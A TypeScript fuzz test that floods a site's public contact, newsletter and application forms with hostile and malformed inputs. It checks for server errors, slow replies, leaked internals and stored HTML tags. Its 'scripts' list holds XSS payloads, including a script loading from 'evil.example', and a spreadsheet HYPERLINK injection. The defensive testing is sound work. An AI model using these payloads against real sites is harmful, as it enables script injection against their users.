/** Public forms filled with what nobody would type, the same every time: answered, quickly, and stored as text. */
import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Serving } from '../../server/serve.ts';
import { createDatabase, type TestDatabase } from '../helpers/database.ts';
import { figure } from '../helpers/figure.ts';
import { jsonPost, send } from '../helpers/http.ts';
import { applicationForm, cityForm, contactForm, newsletterForm } from '../helpers/leads.ts';
import { startSite } from '../helpers/site.ts';
import { nasty, nastyText, rawJson } from './nasty.ts';

/** LEAD_INPUTS asks for more. */
const runs = Number(process.env.LEAD_INPUTS ?? 3_000);
const timeoutMs = Math.max(120_000, runs * 40);
const seed = 20_261_121;
const atOnce = 12;
const slowMs = 1_000;
const inside =
  /node_modules|\n\s+at |\/work\/|server\/|"stack"|select .* from|insert into|violates|syntax error|invalid input syntax/i;

const forms = {
  'contact.send': contactForm,
  'contact.sendFromCity': cityForm,
  'newsletter.subscribe': newsletterForm,
  'application.submit': applicationForm,
} as const;
type Path = keyof typeof forms;
const paths = Object.keys(forms) as Path[];

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script src=//evil.example></script>',
  "'-alert(1)-'",
  '<a href="javascript:alert(1)">x</a>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img src=x onerror=alert(1)//',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '</textarea><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
];

type Case = {
  path: Path;
  how: 'own part' | 'own part twice' | 'whole' | 'origin' | 'raw';
  part: number;
  other: number;
  value: unknown;
  raw: string;
};
const value = fc.oneof(nasty, nastyText, fc.constantFrom(...scripts), fc.string({ unit: 'grapheme', maxLength: 200 }));
const cases = fc.sample(
  fc.record<Case>({
    path: fc.constantFrom(...paths),
    how: fc.constantFrom('own part', 'own part', 'own part', 'own part twice', 'whole', 'origin', 'raw'),
    part: fc.nat(30),
    other: fc.nat(30),
    value,
    raw: rawJson,
  }),
  { numRuns: runs, seed },
);

/** A filled form with some of it replaced. */
function inputOf({ path, how, part, other, value: bad }: Case): unknown {
  const form: Record<string, unknown> = forms[path]();
  const keys = Object.keys(form);
  const replace = (index: number) => (form[keys[index % keys.length]!] = bad);
  if (how === 'whole') return bad;
  if (how === 'origin') form.origin = part % 2 ? bad : { referrer: bad, utmSource: bad };
  else replace(part);
  if (how === 'own part twice') replace(other);
  return form;
}

let database: TestDatabase;
let site: Serving;

beforeAll(async () => {
  database = await createDatabase();
  site = await startSite({ databaseUrl: database.url, env: { AGENCY_INBOX: 'inbox@agency.example' } });
});
afterAll(async () => {
  await site?.stop();
  await database?.drop();
});

it(
  `${runs} inputs to ${paths.length} forms: no 5xx, none over a second, no word about the inside`,
  async () => {
    const bad: string[] = [];
    const statuses: Record<number, number> = {};
    const late: Case[] = [];
    let slowest = 0;
    const post = async (entry: Case, from: string) => {
      const body = entry.how === 'raw' ? entry.raw : (JSON.stringify(inputOf(entry)) ?? '');
      const startedAt = performance.now();
      const reply = await send(site.address, jsonPost(`/trpc/${entry.path}`, body, { 'x-forwarded-for': from }));
      return { ...reply, tookMs: performance.now() - startedAt, said: `${entry.path} ${body.slice(0, 160)}` };
    };
    const play = async (entry: Case, index: number) => {
      const { status, body, tookMs, said } = await post(entry, `172.18.${index >> 8}.${index & 255}`);
      statuses[status] = (statuses[status] ?? 0) + 1;
      slowest = Math.max(slowest, tookMs);
      if (tookMs > slowMs) late.push(entry);
      if (status >= 500 || inside.test(body)) bad.push(`${said} -> ${status} ${body.slice(0, 200)}`);
    };
    for (let index = 0; index < cases.length; index += atOnce)
      await Promise.all(cases.slice(index, index + atOnce).map((entry, offset) => play(entry, index + offset)));
    // A busy machine, or a newsletter that waits for its mail, is late now and then; a bad input is late alone, too.
    for (const [index, entry] of late.entries()) {
      const { tookMs, said } = await post(entry, `172.19.${index >> 8}.${index & 255}`);
      if (tookMs > slowMs) bad.push(`${said} -> after ${Math.round(tookMs)} ms`);
    }
    const failed = Object.entries(statuses).reduce(
      (sum, [status, times]) => sum + (Number(status) >= 500 ? times : 0),
      0,
    );
    figure(
      20,
      `forms: ${cases.length} inputs ${JSON.stringify(statuses)}, ${failed} server errors, ${bad.length} bad, ` +
        `slowest ${Math.round(slowest)} ms`,
    );
    expect(bad).toEqual([]);
    // Both ways are walked often.
    expect(statuses[200]).toBeGreaterThan(runs / 10);
    expect(statuses[400]).toBeGreaterThan(runs / 10);
  },
  timeoutMs,
);

it('what city forms stored begins no tag, and is within its caps', async () => {
  const [row] = await database.query<{ rows: number; tags: number; long: number }>(
    `select count(*)::int as rows,
       count(*) filter (where concat_ws(' ', name, email, phone, business_type, message, city) ~ '<[a-zA-Z/!?]')::int as tags,
       count(*) filter (where length(name) > 100 or length(business_type) > 100 or length(message) > 2000
         or length(city) > 100 or length(phone) not between 10 and 20 or length(email) > 254)::int as long
     from contact_submissions where source <> 'contact_page'`,
  );
  expect(row!.rows).toBeGreaterThan(50);
  expect(row).toMatchObject({ tags: 0, long: 0 });
});
